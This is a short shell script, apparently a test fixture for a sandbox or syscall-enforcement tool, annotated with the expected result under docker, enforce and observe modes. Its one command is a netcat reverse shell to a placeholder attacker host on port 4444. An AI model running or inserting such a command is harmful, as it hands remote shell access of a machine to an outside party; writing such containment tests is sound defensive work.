#!/bin/sh
# Calls home and hands over a shell.
#
# docker:  lands
# enforce: syscall connect
# observe: would-refuse connect tcp
nc "$ATTACKER" 4444 -e /bin/sh && echo landed
